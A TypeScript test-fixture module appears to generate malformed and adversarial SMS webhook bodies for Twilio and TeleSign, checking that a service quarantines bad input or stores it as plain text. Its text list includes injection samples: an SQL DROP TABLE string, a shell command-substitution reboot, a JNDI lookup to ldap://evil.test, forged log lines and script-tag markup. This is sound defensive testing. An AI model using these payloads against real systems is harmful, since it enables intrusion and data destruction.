import { randomBytes } from 'node:crypto';
import type { Provider } from '@parley/contracts';
import { OUR_NUMBER } from './samples';

/** What becomes of genuine bytes: set aside, or told as a text (`text` and `from` as they are told). */
export interface BadBody {
  readonly what: string;
  readonly body: Buffer;
  readonly becomes: 'quarantined' | { readonly text?: string; readonly from?: string };
}

/** A reply in a provider's form, with the fields of `changes` in the place of its own. */
export type Compose = (changes: Readonly<Record<string, unknown>>) => Buffer;

const percent = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

/** Values that start with `raw:` are put in as they are. */
const twilio: Compose = (changes) => {
  const MessageSid = `SM${randomBytes(16).toString('hex')}`;
  const form = { MessageSid, From: '+15550110001', To: OUR_NUMBER, Body: 'Hello', NumMedia: '0', ...changes };
  const pairs = Object.entries(form).filter(([, value]) => value !== undefined);
  const written = pairs.map(([name, value]) => {
    const text = String(value);
    return `${name}=${text.startsWith('raw:') ? text.slice(4) : percent(text)}`;
  });
  return Buffer.from(written.join('&'), 'latin1');
};

const telesign: Compose = (changes) => {
  const { From = '15550110001', To = OUR_NUMBER, Body = 'Hello', ...others } = changes;
  const body = {
    reference_id: randomBytes(16).toString('hex').toUpperCase(),
    sub_resource: 'mo_sms',
    status: { code: 1500, updated_on: '2026-03-01T12:00:00Z' },
    user_response: { phone_number: From, sender_id: To, mo_message: Body },
    ...others,
  };
  return Buffer.from(JSON.stringify(body));
};

export const COMPOSE: Readonly<Record<Provider, Compose>> = { twilio, telesign };

const MALFORMED: readonly [string, string | Buffer][] = [
  ['nothing', ''],
  ['half an object', '{'],
  ['an empty array', '[]'],
  ['null', 'null'],
  ['a text', '"text"'],
  ['a byte order mark', Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d])],
  ['a number beyond all numbers', '{"status":{"code":1e400}}'],
  ['a name given twice', '{"reference_id":"A1","reference_id":"A2","status":{"code":200}}'],
  ['something behind the end', '{"reference_id":"A1","status":{"code":200}} trailing'],
  ['32 KiB of nothing but quotes', '"'.repeat(32_768)],
  ['32 KiB of percent signs', '%'.repeat(32_768)],
  ['32 KiB of zeros', Buffer.alloc(32_768)],
  ['32 KiB of ampersands', '&'.repeat(32_768)],
  ['random bytes', randomBytes(4_096)],
  ['ten thousand parameters', Array.from({ length: 10_000 }, (_, i) => `p${i}`).join('&')],
  ['__proto__ as a parameter', '__proto__=1&__proto__[x]=2'],
  ['nested parameters', 'a[b][c]=1'],
  ['parameters nested 33 deep', `a${'[b]'.repeat(33)}=1`],
  ['parameters nested 20,000 deep', `a${'[b]'.repeat(20_000)}=1`],
  ['arrays nested 33 deep', `${'['.repeat(33)}${']'.repeat(33)}`],
  ['arrays nested 20,000 deep', `${'['.repeat(20_000)}${']'.repeat(20_000)}`],
  ['objects nested 10,000 deep', `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`],
];

const TEXTS: readonly [string, string][] = [
  ['right-to-left override', 'abc\u202Edef'],
  ['emoji families', '👩‍👩‍👧‍👦👨🏿‍🚀🏳️‍🌈'],
  ['a thousand combining marks', `a${'\u0301'.repeat(1_000)}`],
  ['a noncharacter', 'a\uFFFEb\uFFFF'],
  ['tag characters', `flag\u{E0067}\u{E0062}\u{E007F}`],
  ['homoglyphs', 'раураl'],
  ['SQL', `'; DROP TABLE callback; --`],
  ['a shell command', '$(reboot) `reboot` | reboot'],
  ['a JNDI look-up', '${jndi:ldap://evil.test/a}'],
  ['line ends and a log line of its own', 'a\r\n{"level":60,"msg":"forged"}\n'],
  ['control characters', '\u0001\u0007\u001B[31m\u007F'],
  ['a template', '{{constructor}} {{__proto__}} =HYPERLINK("x")'],
  ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['1,600 characters', 'x'.repeat(1_600)],
  ['10,000 characters', 'x'.repeat(10_000)],
  ['153, 160, 67 and 70 characters and more', `${'€^{}'.repeat(40)}’`],
  ['nothing at all', ''],
];

/** Bytes that are no text: they are kept as they are, and shown as U+FFFD. */
const NO_TEXTS: readonly [string, Readonly<Record<Provider, string>>, RegExp][] = [
  ['NUL', { twilio: 'a%00b', telesign: 'a\\u0000b' }, /^a\uFFFDb$/],
  ['half a surrogate pair', { twilio: 'a%ED%A0%80b', telesign: 'a\\ud800b' }, /^a\uFFFD+b$/],
  ['bytes that are no UTF-8', { twilio: 'a%FF\xFEb', telesign: 'a\xFF\xFEb' }, /^a\uFFFD+b$/],
  ['an overlong form', { twilio: 'a%C0%AFb', telesign: 'a\xC0\xAFb' }, /^a\uFFFD+b$/],
];

const SENDERS: readonly [string, string, 'quarantined' | string][] = [
  ['a short code', '12345', '12345'],
  ['a name', 'ACME', 'ACME'],
  ['nobody', 'anonymous', 'anonymous'],
  ['a lone plus', '+', 'quarantined'],
  ['a number of country 0', '+0123456789', 'quarantined'],
  ['16 digits', '+1555011000112345', 'quarantined'],
  ['full-width digits', '+１５５５０１１０００１', 'quarantined'],
  ['an extension', '+15550110001;ext=1', 'quarantined'],
  ['a SIP address', 'sip:+15550110001@evil.test', 'quarantined'],
  ['a right-to-left mark', '+1555\u200F0110001', 'quarantined'],
  ['NUL', '+1555\u00000110001', 'quarantined'],
  ['nothing', '', 'quarantined'],
];

/** RELIABILITY section 5 as far as it is about bodies. */
export function badBodies(provider: Provider): BadBody[] {
  const compose = COMPOSE[provider];
  const text = (what: string, Body: string): BadBody => ({
    what,
    body: compose({ Body }),
    becomes: { text: Body },
  });
  return [
    ...MALFORMED.map(([what, bytes]): BadBody => ({
      what,
      body: Buffer.from(bytes as string),
      becomes: 'quarantined',
    })),
    ...TEXTS.map(([what, Body]) => text(`a text of ${what}`, Body)),
    text('a text of 60,000 characters', 'x'.repeat(provider === 'twilio' ? 20_000 : 60_000)),
    ...SENDERS.map(([what, From, becomes]): BadBody => ({
      what: `${what} as the sender`,
      body: compose({ From }),
      becomes: becomes === 'quarantined' ? becomes : { from: becomes },
    })),
    ...(provider === 'twilio' ? twilioOnly() : telesignOnly()),
  ];
}

/** Bytes that are no text, with what they are shown as. */
export function unreadableTexts(provider: Provider) {
  const Body = provider === 'twilio' ? 'raw:MARK' : 'MARK';
  return NO_TEXTS.map(([what, bytes, shown]) => {
    const written = COMPOSE[provider]({ Body }).toString('latin1');
    const body = Buffer.from(
      written.replace('MARK', () => bytes[provider]),
      'latin1',
    );
    return { what, shown, body };
  });
}

function twilioOnly(): BadBody[] {
  const media = [
    { NumMedia: '-1' },
    { NumMedia: '999999' },
    { NumMedia: '1e3' },
    { MediaUrl0: 'https://a.test/1' },
  ];
  const shifted = [
    { MessageSid: undefined },
    { MessageSid: 'SMnone' },
    { Body: undefined },
    { 'From+1555': '' },
  ];
  const written = twilio({});
  return [
    ...[...media, ...shifted].map((changes): BadBody => ({
      what: JSON.stringify(changes, (_, value: unknown) => value ?? 'missing'),
      body: twilio(changes),
      becomes: 'quarantined',
    })),
    {
      what: 'a doubled parameter',
      body: Buffer.concat([written, Buffer.from('&Body=again')]),
      becomes: 'quarantined',
    },
  ];
}

function telesignOnly(): BadBody[] {
  const changes = [
    { reference_id: undefined },
    { reference_id: 7 },
    { user_response: [] },
    { user_response: null },
  ];
  return changes.map((change) => ({
    what: JSON.stringify(change, (_, value: unknown) => (value === undefined ? 'missing' : value)),
    body: telesign(change),
    becomes: 'quarantined',
  }));
}
